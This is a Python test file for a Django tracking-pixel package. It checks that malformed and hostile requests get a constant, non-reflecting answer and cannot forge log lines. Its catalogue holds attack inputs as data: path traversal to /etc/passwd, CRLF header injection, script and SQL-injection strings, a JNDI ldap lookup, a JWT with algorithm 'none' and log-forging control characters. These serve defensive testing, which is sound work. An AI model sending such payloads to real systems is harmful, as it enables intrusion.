"""The pixel endpoint under bad requests, forged log lines and failing recorders.

``BAD_REQUESTS`` is the catalogue of hostile and malformed requests; every one
goes through Django's full middleware stack, under WSGI and ASGI, and must get
the same constant answer while no recorder runs.
"""

from __future__ import annotations

import base64
import logging
import unicodedata
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from django.core import signing
from django.db.utils import ConnectionHandler, OperationalError
from django.test import Client, override_settings
from freezegun import freeze_time
from itsdangerous import URLSafeTimedSerializer

import ptrack
from ptrack import legacy, tokens
from ptrack.answers import PIXEL_GIF
from ptrack.events import PixelEvent
from ptrack.exceptions import ExpiredToken, InvalidToken
from ptrack.tracking import RequestContext
from tests import ptrack3
from tests.conftest import Recorded, pixel_path
from tests.fronts import PIXEL_HEADERS, SENDERS, Bad
from tests.helpers import flip
from tests.settings import SECRET_KEY
from tests.testapp import pixels


def _valid() -> str:
    return pixel_path("newsletter", user_id=42).split("/")[2]


def _expired() -> str:
    with freeze_time(datetime(2020, 1, 1, tzinfo=timezone.utc)):
        return tokens.dumps(["newsletter"], {}, max_age=60)


def _from_the_future() -> str:
    with freeze_time(datetime.now(timezone.utc) + timedelta(days=1)):
        return tokens.dumps(["newsletter"], {})


def _other_key() -> str:
    with override_settings(PTRACK_SECRET="another-key-" + "x" * 50):
        return tokens.dumps(["newsletter"], {})


def _other_salt() -> str:
    return URLSafeTimedSerializer(
        SECRET_KEY,
        salt="ptrack.pixel.other",
        signer_kwargs={"key_derivation": "hmac", "digest_method": "sha256"},
    ).dumps([["newsletter"], {}])


def _fernet() -> str:
    return ptrack.FernetEncoder.encode(["newsletter"], {})


def _3x(change: Callable[[str], str] = lambda t: t, case: str = "newsletter") -> Callable[[], str]:
    """A token django-ptrack 3.0.0 minted (tests/ptrack3), altered by ``change``."""
    return lambda: change(ptrack3.token(case))


BAD_REQUESTS: dict[str, Bad] = {
    # Tokens that are not ptrack's.
    "random text": Bad("garbage"),
    "a dot": Bad("."),
    "dots": Bad("...."),
    "token-shaped junk": Bad("W10.aaaa.bbbb"),
    "signature changed": Bad(lambda: flip(_valid(), -3)),
    "payload changed": Bad(lambda: flip(_valid(), 2)),
    "timestamp changed": Bad(lambda: flip(_valid(), _valid().index(".") + 2)),
    "truncated by one": Bad(lambda: _valid()[:-1]),
    "payload only": Bad(lambda: _valid().split(".")[0]),
    "extended": Bad(lambda: _valid() + "A"),
    "extra path segment after": Bad(lambda: _valid() + "/extra"),
    "extra path segment before": Bad(lambda: "extra/" + _valid()),
    "other key": Bad(_other_key),
    "other salt": Bad(_other_salt),
    "django signing, same SECRET_KEY": Bad(lambda: signing.dumps([["newsletter"], {}])),
    "django signing, ptrack's salt": Bad(lambda: signing.dumps([[], {}], salt=tokens.SALT)),
    "JWT alg none": Bad("eyJhbGciOiJub25lIn0.W1sibmV3c2xldHRlciJdLHt9XQ."),
    "expired": Bad(_expired),
    "from the future": Bad(_from_the_future),
    "Fernet token to the signed encoder": Bad(_fernet),
    "over the length cap": Bad("A" * 4097),
    "valid then 6000 more characters": Bad(lambda: _valid() + "A" * 6000),
    "forged compressed payload": Bad(".eJzLSM3JyVcozy_KSQEAGgQEXQ.YWJj.AAAA"),
    # Tokens shaped like django-ptrack 3.x's, tested with PTRACK_LEGACY_SECRET set and unset.
    "3.x: another 3.x key": Bad(lambda: ptrack3.mint("newsletter", secret="another-3x-key")),
    "3.x: nonce changed": Bad(_3x(lambda t: flip(t, 3))),
    "3.x: ciphertext changed": Bad(_3x(lambda t: flip(t, 60))),
    "3.x: authenticator changed": Bad(_3x(lambda t: flip(t, 35))),
    "3.x: truncated": Bad(_3x(lambda t: t[:-4])),
    "3.x: padding stripped": Bad(_3x(lambda t: t.rstrip("="))),
    "3.x: padding doubled": Bad(_3x(lambda t: t + "==")),
    "3.x: stray character": Bad(_3x(lambda t: t[:10] + "!" + t[10:])),
    "3.x: standard base64 alphabet": Bad(
        _3x(lambda t: quote(t.replace("-", "+").replace("_", "/"), safe=""))
    ),
    "3.x: a signed token's dot added": Bad(_3x(lambda t: t[:40] + "." + t[40:])),
    "3.x: nonce only": Bad(lambda: base64.urlsafe_b64encode(b"\x01" * 24).decode()),
    "3.x: genuine box, empty": Bad(lambda: ptrack3.seal(b"")),
    "3.x: genuine box, bytes appended": Bad(lambda: ptrack3.seal(b"")[:-2] + "AAAA"),
    "3.x: genuine box, not JSON": Bad(lambda: ptrack3.seal(b"<script>alert(1)</script>")),
    "3.x: genuine box, not UTF-8": Bad(lambda: ptrack3.seal(b"\xff\xfe\x00")),
    "3.x: genuine box, an object": Bad(lambda: ptrack3.seal(b'{"args": [], "kwargs": {}}')),
    "3.x: genuine box, nested too deep": Bad(lambda: ptrack3.seal(b"[" * 3000)),
    "3.x: genuine, over the length cap": Bad(_3x(case="long, over 4096 characters")),
    "3.x: genuine, then 6000 more characters": Bad(_3x(lambda t: t + "A" * 6000)),
    # Odd paths and encodings.
    "percent-encoded control bytes": Bad("%00%ff%fe%0d%0a"),
    "percent-encoded traversal": Bad("..%2F..%2Fetc%2Fpasswd"),
    "raw traversal": Bad("../../etc/passwd"),
    "double percent-encoding": Bad("%25%32%35%25%30%30"),
    "overlong UTF-8": Bad("%C0%AF%E0%80%AF"),
    "invalid UTF-8": Bad("%80%81%FE%FF"),
    "non-ASCII": Bad("ünïcødé-✉-🎯-中文"),
    "bidi and zero-width": Bad("\u202e\u200b\ufeffabc"),
    "raw NUL": Bad("\x00"),
    "CRLF header injection": Bad("%0d%0aSet-Cookie:%20sessionid=evil%0d%0a"),
    "HTML": Bad(quote("<script>alert(1)</script>")),
    "SQL": Bad(quote("' OR 1=1 --")),
    "template and JNDI": Bad(quote("{{7*7}}${jndi:ldap://x/a}")),
    "a slash": Bad("/"),
    "query string": Bad("garbage/?next=%0d%0a<x>&token=" + "A" * 100),
    # Odd headers with a bad token.
    "huge User-Agent": Bad("garbage", headers={"User-Agent": "M" * 65_536}),
    "control characters in User-Agent": Bad(
        "garbage", headers={"User-Agent": "a\r\nX-Injected: 1\x00\x1b[31m"}
    ),
    "Latin-1 Referer": Bad("garbage", headers={"Referer": "http://ex.com/ÿþ" * 500}),
    "huge Cookie": Bad("garbage", headers={"Cookie": "; ".join(f"c{i}=v" for i in range(2000))}),
    "junk forwarding headers": Bad(
        "garbage", headers={"X-Forwarded-For": "<x>, 999.1.1.1, ::g", "Range": "bytes=-1"}
    ),
    # HEAD never records, not even a valid token.
    "HEAD of a valid token": Bad(_valid, method="HEAD"),
    "HEAD of a bad token": Bad("garbage", method="HEAD"),
    # Other methods on a valid token: 405, nothing recorded.
    "POST": Bad(_valid, method="POST", status=405),
    "POST with a CSRF cookie and no token": Bad(
        _valid, method="POST", status=405, headers={"Cookie": "csrftoken=" + "a" * 32}
    ),
    "PUT": Bad(_valid, method="PUT", status=405),
    "PATCH": Bad(_valid, method="PATCH", status=405),
    "DELETE": Bad(_valid, method="DELETE", status=405),
    "OPTIONS": Bad(_valid, method="OPTIONS", status=405),
    "TRACE": Bad(_valid, method="TRACE", status=405),
    "PROPFIND": Bad(_valid, method="PROPFIND", status=405),
    "made-up method": Bad(_valid, method="FROB", status=405),
}


@pytest.fixture(params=[None, ptrack3.SECRET], ids=["3.x links unread", "3.x links read"])
def legacy_secret(request: pytest.FixtureRequest) -> Iterator[str | None]:
    """PTRACK_LEGACY_SECRET unset, then set to the key the 3.x tokens here were made with."""
    with override_settings(PTRACK_LEGACY_SECRET=request.param):
        yield request.param


def test_the_catalogue_is_at_least_thirty_requests() -> None:
    assert len(BAD_REQUESTS) >= 30


@pytest.fixture
def reference(send: Callable[[Bad, str], Any]) -> dict[int, dict[str, str]]:
    """Every header of the pixel and of a 405, from requests that carry no odd data."""
    plain = "/ptrack/x/"
    return {
        200: dict(send(Bad("x"), plain).headers),
        405: dict(send(Bad("x", method="POST", status=405), plain).headers),
    }


@pytest.mark.parametrize("bad", BAD_REQUESTS.values(), ids=BAD_REQUESTS.keys())
def test_bad_request_gets_the_constant_answer_and_records_nothing(
    send: Callable[[Bad, str], Any],
    reference: dict[int, dict[str, str]],
    recorded: Recorded,
    legacy_secret: str | None,
    bad: Bad,
) -> None:
    response = send(bad, bad.path())
    assert response.status_code == bad.status
    if bad.status == 200:
        assert response.content == (PIXEL_GIF if bad.method == "GET" else b"")
        assert {name: response[name] for name in PIXEL_HEADERS} == PIXEL_HEADERS
    else:
        assert response.content == b""
        assert response["Allow"] == "GET, HEAD"
    # Exactly the headers of a plain request: nothing from the request or token is reflected.
    assert dict(response.headers) == reference[bad.status]
    assert not response.cookies
    assert "Cookie" not in response.get("Vary", "")
    assert recorded.events == []
    assert pixels.calls == []


def test_the_reference_answer_is_the_one_a_valid_load_gets(
    send: Callable[[Bad, str], Any], reference: dict[int, dict[str, str]], recorded: Recorded
) -> None:
    response = send(Bad(_valid), pixel_path("newsletter", user_id=42))
    assert (response.status_code, response.content) == (200, PIXEL_GIF)
    assert dict(response.headers) == reference[200]
    assert recorded.calls == [(("newsletter",), {"user_id": 42})]


def test_the_reference_answer_is_the_one_a_3x_load_gets(
    send: Callable[[Bad, str], Any], reference: dict[int, dict[str, str]], recorded: Recorded
) -> None:
    with override_settings(PTRACK_LEGACY_SECRET=ptrack3.SECRET):
        response = send(Bad(_3x()), f"/ptrack/{ptrack3.token('newsletter')}/")
    assert (response.status_code, response.content) == (200, PIXEL_GIF)
    assert dict(response.headers) == reference[200]
    assert recorded.calls == [(("newsletter",), {"user_id": 42})]
    assert recorded.events[0].legacy


def test_a_path_without_the_trailing_slash_is_redirected_by_django_and_records_nothing(
    client: Client, recorded: Recorded
) -> None:
    # CommonMiddleware's APPEND_SLASH answers before ptrack; the pixel URL always has the slash.
    response = client.get(pixel_path("n").rstrip("/"))
    assert response.status_code == 301
    assert recorded.events == []


# Log forging ------------------------------------------------------------------------------------

INJECTIONS = {
    "LF": "\nCRITICAL forged line",
    "CRLF": "\r\nCRITICAL forged line",
    "NUL": "\x00",
    "ESC": "\x1b[2J\x1b[31m",
    "VT and FF": "\x0b\x0c",
    "NEL": "\x85",
    "LINE SEPARATOR": "\u2028",
    "PARAGRAPH SEPARATOR": "\u2029",
}


def assert_no_raw_line_breaks(caplog: pytest.LogCaptureFixture) -> None:
    records = [record for record in caplog.records if record.name.startswith("ptrack")]
    assert records
    for record in records:
        message = record.getMessage()
        assert not [c for c in message if unicodedata.category(c) in ("Cc", "Zl", "Zp")], message


class _Unexpected:
    """An encoder with a bug: it raises something it is not documented to raise."""

    @staticmethod
    def encrypt(*args: Any, **kwargs: Any) -> str:
        return "x"

    @staticmethod
    def decrypt(token: str) -> Any:
        raise KeyError(token)


class _Echoing:
    """An encoder whose error messages quote the token verbatim."""

    @staticmethod
    def encrypt(*args: Any, **kwargs: Any) -> str:
        return "x"

    @staticmethod
    def decrypt(token: str) -> Any:
        raise ValueError(f"bad token {token}")


@pytest.mark.parametrize("injection", INJECTIONS.values(), ids=INJECTIONS.keys())
@pytest.mark.parametrize("encoder", [None, _Unexpected, _Echoing])
def test_path_cannot_forge_log_lines(
    client: Client, caplog: pytest.LogCaptureFixture, injection: str, encoder: Any
) -> None:
    ptrack.ptrack_encoder = encoder
    with caplog.at_level(logging.DEBUG, logger="ptrack"):
        client.get(f"/ptrack/tok{quote(injection)}en/", headers={"User-Agent": "ua"})
    assert_no_raw_line_breaks(caplog)


class _Broken(ptrack.TrackingPixel):
    def record(self, *args: Any, **kwargs: Any) -> None:
        raise RuntimeError("broken recorder")


@pytest.mark.parametrize("injection", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_user_agent_and_referer_cannot_forge_log_lines(
    caplog: pytest.LogCaptureFixture, injection: str
) -> None:
    ptrack.tracker.register(_Broken)
    try:
        with caplog.at_level(logging.DEBUG, logger="ptrack"):
            ptrack.tracking.track(
                tokens.dumps(["n"], {"k": injection}),
                RequestContext(
                    user_agent=f"Mozilla{injection}/5.0", referer=f"https://x/{injection}"
                ),
            )
            ptrack.tracking.track(_expired(), RequestContext(user_agent=injection))
    finally:
        ptrack.tracker.unregister(_Broken)
    assert [r.levelname for r in caplog.records] == ["ERROR", "INFO"]
    assert_no_raw_line_breaks(caplog)


# Faults -----------------------------------------------------------------------------------------


@pytest.fixture
def dead_database(tmp_path: Path, django_db_blocker: Any) -> Iterator[ConnectionHandler]:
    """A Django database whose file lives in a directory that does not exist."""
    handler = ConnectionHandler(
        {
            "default": {
                "ENGINE": "django.db.backends.sqlite3",
                "NAME": str(tmp_path / "gone" / "db.sqlite3"),
            }
        }
    )
    with django_db_blocker.unblock():
        yield handler
    handler.close_all()


def _raise_runtime(db: ConnectionHandler) -> None:
    raise RuntimeError("recorder bug")


def _query_dead_database(db: ConnectionHandler) -> None:
    with db["default"].cursor() as cursor:
        cursor.execute("INSERT INTO opens (n) VALUES (1)")


@pytest.mark.parametrize(
    ("fault", "error"),
    [(_raise_runtime, RuntimeError), (_query_dead_database, OperationalError)],
    ids=["raises", "dead database"],
)
@pytest.mark.parametrize("server", ["wsgi", "asgi"])
def test_failing_recorder_keeps_the_pixel_others_run_and_the_log_can_replay_it(
    recorded: Recorded,
    caplog: pytest.LogCaptureFixture,
    dead_database: ConnectionHandler,
    fault: Callable[[ConnectionHandler], Any],
    error: type[BaseException],
    server: str,
) -> None:
    class Failing(ptrack.TrackingPixel):
        def record(self, *args: Any, **kwargs: Any) -> None:
            fault(dead_database)

    class After(ptrack.TrackingPixel):
        def record(self, *args: Any, **kwargs: Any) -> None:
            pixels.calls.append((("after", *args), kwargs))

    ptrack.tracker.register(Failing)
    ptrack.tracker.register(After)
    path = pixel_path("newsletter", user_id=7, tags=["a", "b"])
    try:
        with caplog.at_level(logging.ERROR, logger="ptrack"):
            response = SENDERS[server](Bad(_valid, headers={"User-Agent": "UA/1"}), path)
    finally:
        ptrack.tracker.unregister(Failing)
        ptrack.tracker.unregister(After)

    assert (response.status_code, response.content) == (200, PIXEL_GIF)
    assert response["Cache-Control"] == PIXEL_HEADERS["cache-control"]
    # Recorders registered before and after the failing one both ran.
    assert recorded.calls == [(("newsletter",), {"user_id": 7, "tags": ["a", "b"]})]
    assert (("after", "newsletter"), {"user_id": 7, "tags": ["a", "b"]}) in pixels.calls
    [record] = caplog.records
    assert record.levelname == "ERROR"
    assert "Failing" in record.getMessage()
    assert record.exc_info is not None
    assert isinstance(record.exc_info[1], error)
    # The record carries the whole event: replaying it gives the recorder exactly the same input.
    assert isinstance(record.args, tuple)
    [logged] = [arg for arg in record.args if isinstance(arg, dict)]
    assert PixelEvent.from_dict(logged) == recorded.events[0]
    assert logged["token"] in record.getMessage()
    replayed = ptrack.encoders.decode(logged["token"])
    assert (replayed.args, replayed.kwargs) == (recorded.events[0].args, recorded.events[0].kwargs)


def test_a_dead_database_is_a_real_operational_error(dead_database: ConnectionHandler) -> None:
    with pytest.raises(OperationalError):
        _query_dead_database(dead_database)


def test_every_bad_token_in_the_catalogue_is_refused_by_the_decoder() -> None:
    # The catalogue tests the endpoint; this checks its tokens are bad for the right reason.
    for name, bad in BAD_REQUESTS.items():
        if bad.method != "GET" or bad.headers or name in ("query string",):
            continue
        token = unquote(urlsplit(bad.path()).path[len("/ptrack/") : -1])
        with pytest.raises((InvalidToken, ValueError)):
            ptrack.encoders.decode(token)
        with override_settings(PTRACK_LEGACY_SECRET=ptrack3.SECRET):
            with pytest.raises(InvalidToken) as info:
                legacy.decrypt(token)
            assert not isinstance(info.value, ExpiredToken)
